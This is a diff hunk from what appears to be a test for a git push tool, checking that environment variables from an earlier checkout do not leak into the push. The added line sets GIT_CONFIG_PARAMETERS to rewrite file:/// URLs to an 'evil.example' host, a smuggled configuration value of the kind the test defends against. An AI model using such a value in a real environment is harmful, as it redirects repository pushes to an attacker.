@@ -15,7 +15,7 @@ test("what happened to the checkout before does not reach what pushes", async ()
   github.git("config", "core.hooksPath", cwd);
   writeFileSync(join(cwd, "pre-push"), "#!/bin/sh\nexit 1\n", { mode: 0o755 });
   const variables = {
-    GIT_INDEX_FILE: "/nowhere",
+    GIT_CONFIG_PARAMETERS: "'url.https://evil.example/.insteadOf=file:///'",
     GITHUB_REPOSITORY: "origin.git",
     GITHUB_SERVER_URL: `file://${join(github.origin, "..")}`,
     GITHUB_SHA: commit,
